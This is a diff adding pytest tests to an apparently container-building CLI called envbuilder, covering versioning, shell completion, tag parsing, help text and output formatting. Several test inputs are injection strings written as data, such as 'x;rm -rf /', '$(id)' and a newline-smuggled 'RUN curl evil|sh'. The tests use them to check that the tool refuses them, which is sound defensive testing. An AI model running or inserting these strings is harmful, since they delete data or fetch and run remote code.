@@ -8,6 +8,7 @@ Most runs go through typer's CliRunner on envbuilder.cli.app; a few run the inst
 from __future__ import annotations
 
 import json
+import re
 import os
 import shutil
 import subprocess
@@ -318,3 +319,231 @@ def test_a_version_the_matrix_does_not_know_is_bad_input(target, word):
                         "resolve", target], capture_output=True, text=True)
     assert p.returncode == 2
     assert word in p.stderr and len(p.stderr.strip().splitlines()) == 1
+
+
+# -- CLI conventions: --version, python -m, completion, --tag, option names, metavars, output --
+
+def _plain_env(**extra: str) -> dict:
+    """The environment of a subprocess run of the CLI, without the caller's colour or width."""
+    from hostile_helpers import env as cli_env
+
+    e = cli_env(**extra)
+    for k in ("NO_COLOR", "FORCE_COLOR", "COLUMNS", "TTY_COMPATIBLE", "TTY_INTERACTIVE"):
+        if k not in extra:
+            e.pop(k, None)
+    return e
+
+
+def test_version_prints_the_package_version():
+    import envbuilder
+    from hostile_helpers import cli
+
+    p = cli("--version")
+    assert p.returncode == 0, p.stderr
+    assert p.stdout == f"envbuilder {envbuilder.__version__}\n"
+    assert envbuilder.__version__ and envbuilder.__version__[0].isdigit()
+
+
+def test_python_m_envbuilder(tmp_path):
+    p = subprocess.run([sys.executable, "-m", "envbuilder", "--help"], capture_output=True,
+                       text=True, timeout=120, env=_plain_env(), cwd=tmp_path)
+    assert p.returncode == 0, p.stderr
+    assert p.stdout.startswith("Usage: envbuilder "), p.stdout[:200]  # the prog name, not __main__.py
+    assert "--version" in p.stdout and "build" in p.stdout
+    p = subprocess.run([sys.executable, "-m", "envbuilder", "resolve", "cpu", "--json"],
+                       capture_output=True, text=True, timeout=120, env=_plain_env(), cwd=tmp_path)
+    assert p.returncode == 0, p.stderr
+    assert json.loads(p.stdout)["os"] == "debian12"
+
+
+def test_shell_completion_is_installable():
+    from hostile_helpers import cli
+
+    p = cli("--show-completion", "bash")
+    assert p.returncode == 0, p.stderr
+    assert "_ENVBUILDER_COMPLETE" in p.stdout  # the script a shell sources
+    # what the shell then asks: the commands that start with "bu", options of build
+    p = cli(_ENVBUILDER_COMPLETE="complete_bash", COMP_WORDS="envbuilder bu", COMP_CWORD="1")
+    assert p.returncode == 0, p.stderr
+    assert p.stdout.split() == ["build"]
+    p = cli(_ENVBUILDER_COMPLETE="complete_bash", COMP_WORDS="envbuilder build --smoke-t",
+            COMP_CWORD="2")
+    assert p.stdout.split() == ["--smoke-timeout"]
+
+
+@pytest.mark.parametrize("value, want", [
+    ("dev", (None, "dev")),  # a bare tag keeps its meaning: envbuilder:dev
+    ("v1.2_rc-3", (None, "v1.2_rc-3")),
+    ("myrepo/train:dev", ("myrepo/train", "dev")),
+    ("myrepo/train", ("myrepo/train", "latest")),  # docker's default tag
+    ("train:dev", ("train", "dev")),
+    ("ghcr.io/org/train:cu121", ("ghcr.io/org/train", "cu121")),
+    ("127.0.0.1:5000/ml/train:dev", ("127.0.0.1:5000/ml/train", "dev")),
+    ("localhost:5000/ml/train", ("localhost:5000/ml/train", "latest")),  # a port is no tag
+])
+def test_tag_is_name_and_tag_like_docker(value, want):
+    from envbuilder.core.validate import tag_ref
+
+    assert tag_ref(value) == want
+
+
+@pytest.mark.parametrize("value", [
+    "", "x;rm -rf /", "dev$(id)", "a/b:$(id)", "a/b:dev`id`", "My/Train:dev", "a b", "-x",
+    "a/b:c:d", "a/b@sha256:" + "0" * 64, "a/b:" + "x" * 129, "a//b:dev", "host:99999/a:b",
+    "dev\nRUN id",
+])
+def test_tag_refuses_what_is_no_reference(value):
+    from envbuilder.core.validate import tag_ref
+    from envbuilder.errors import InputError
+
+    with pytest.raises(InputError) as e:
+        tag_ref(value)
+    assert "--tag" in str(e.value)
+
+
+@pytest.mark.parametrize("flag, value", [("--tag", "x;rm -rf /"), ("-t", "myrepo/train:$(id)"),
+                                         ("-t", "dev\nRUN curl evil|sh")])
+def test_build_refuses_an_injected_tag_with_exit_2(flag, value, tmp_path):
+    from hostile_helpers import assert_clean_failure, cli
+
+    # refused before anything is rendered or an engine is asked (none is needed here)
+    p = cli("build", "cpu", flag, value, "--no-smoke", "--context", str(tmp_path / "ctx"),
+            DOCKER_HOST="unix:///nonexistent.sock")
+    first = assert_clean_failure(p, 2, "--tag")
+    assert "NAME[:TAG]" in first or "not a tag" in first
+    assert not (tmp_path / "ctx").exists()
+
+
+def _commands():
+    """(path, click command) of every command, groups walked."""
+    import typer.main
+
+    def walk(cmd, path):
+        sub = getattr(cmd, "commands", None)
+        if sub:
+            for name, c in sub.items():
+                yield from walk(c, [*path, name])
+        else:
+            yield path, cmd
+
+    return list(walk(typer.main.get_command(app), []))
+
+
+_PY_TYPE = re.compile(r"<[^>]*>|\blist\[|\b(str|int|float|bool|path)\b|\brange\b")
+
+
+def test_help_shows_no_python_types_as_metavars():
+    """Every option and argument of every command shows what to write (TEXT, FILE, URL,
+    NAME[:TAG]...), never a Python type (<str>, <list[str]>, <int range>)."""
+    cmds = _commands()
+    assert len(cmds) >= 14
+    for path, cmd in cmds:
+        ctx = cmd.context_class(cmd, info_name=" ".join(["envbuilder", *path]))
+        for param in cmd.params:
+            rec = param.get_help_record(ctx)
+            if rec is None:  # hidden
+                continue
+            assert not _PY_TYPE.search(rec[0]), (path, rec[0])
+        usage = cmd.get_usage(ctx)
+        assert not _PY_TYPE.search(usage.replace("envbuilder", "")), (path, usage)
+        r = run([*path, "--help"])
+        assert r.exit_code == 0
+        for bad in ("<str>", "<list[", "<int range>", "<path>", "<float>", "<int>"):
+            assert bad not in r.stdout, (path, bad)
+    # the names say what goes there
+    helps = {tuple(p): run([*p, "--help"]).stdout for p, _ in cmds}
+    assert "-t, --tag NAME[:TAG]" in helps[("build",)]
+    assert "--pip-index-url URL" in helps[("build",)]
+    assert "--lock-file FILE" in helps[("build",)]
+    assert "[LOG]..." in helps[("explain",)]
+
+
+def test_one_meaning_per_option_name():
+    """An option name is a flag in every command or takes a value in every command (render
+    --lock is a flag, build's lock file is --lock-file), and the smoke job's timeout has one
+    default wherever it is set."""
+    import envbuilder
+    from envbuilder.run.build import BuildOptions
+
+    kinds: dict[str, set] = {}
+    for path, cmd in _commands():
+        for param in cmd.params:
+            if param.param_type_name != "option" or param.hidden:
+                continue
+            for name in [*param.opts, *param.secondary_opts]:
+                kinds.setdefault(name, set()).add(("flag" if param.is_flag else "value", " ".join(path)))
+    mixed = {n: k for n, k in kinds.items() if len({kind for kind, _ in k}) > 1}
+    assert not mixed, mixed
+    assert {kind for kind, _ in kinds["--lock"]} == {"flag"}
+    assert {c for _, c in kinds["--lock-file"]} == {"build"}
+
+    def default(path, name):
+        cmd = dict((tuple(p), c) for p, c in _commands())[path]
+        return next(p.default for p in cmd.params if name in getattr(p, "opts", ()))
+
+    assert default(("smoke",), "--timeout") == default(("build",), "--smoke-timeout") \
+        == BuildOptions().smoke_timeout == envbuilder.SMOKE_TIMEOUT
+
+
+def test_build_lock_path_is_now_lock_file():
+    from hostile_helpers import assert_clean_failure, cli
+
+    p = cli("build", "cpu", "--lock", "a.lock", "--lock-file", "b.lock")
+    assert_clean_failure(p, 2, "--lock-file")
+    # the old spelling still works, with a warning (refused later here: the file is not there)
+    p = cli("build", "cpu", "--lock", "/nonexistent/requirements.lock", "--no-smoke",
+            DOCKER_HOST="unix:///nonexistent.sock")
+    assert "is now --lock-file" in p.stderr
+    assert p.returncode in (1, 2) and "Traceback" not in p.stderr
+
+
+def test_explain_reads_a_log_piped_in(tmp_path):
+    from hostile_helpers import cli
+
+    log = Path(__file__).parent / "explain_corpus" / "001-shm-nccl290-posix-fallocate.log"
+    want = json.loads(cli("explain", "--json", str(log)).stdout)["causes"][0]["category"]
+    with open(log, "rb") as f:
+        p = cli("explain", "--json", stdin=f)  # envbuilder explain < job.log
+    assert p.returncode == 0, p.stderr
+    assert json.loads(p.stdout)["causes"][0]["category"] == want
+    with open(log, "rb") as f:
+        p = cli("explain", "--json", "-", stdin=f)  # - still means stdin
+    assert json.loads(p.stdout)["causes"][0]["category"] == want
+
+
+def test_explain_without_a_log_on_a_terminal_says_how(tmp_path):
+    import pty
+
+    from hostile_helpers import assert_clean_failure, cli
+
+    primary, secondary = pty.openpty()
+    try:
+        p = cli("explain", stdin=secondary)  # a terminal: nothing is waited for
+    finally:
+        os.close(primary)
+        os.close(secondary)
+    assert_clean_failure(p, 2, "LOG", "envbuilder explain < job.log")
+
+
+def _targets_table(**env: str) -> str:
+    from hostile_helpers import CLI
+
+    p = subprocess.run([*CLI, "targets"], capture_output=True, text=True, timeout=120,
+                       env=_plain_env(**env))
+    assert p.returncode == 0, p.stderr
+    return p.stdout
+
+
+def test_tables_honour_no_color():
+    assert "\x1b[" in _targets_table(FORCE_COLOR="1")  # rich styles a terminal's table...
+    plain = _targets_table(FORCE_COLOR="1", NO_COLOR="1")
+    assert "\x1b" not in plain  # ...and NO_COLOR turns every escape off, bold included
+    assert "target" in plain and "cpu" in plain
+
+
+def test_tables_honour_columns():
+    wide = _targets_table()
+    assert max(len(line) for line in wide.splitlines()) > 100  # a pipe gets 200 columns
+    narrow = _targets_table(COLUMNS="72")
+    assert max(len(line) for line in narrow.splitlines()) <= 72
+    assert "cpu" in narrow
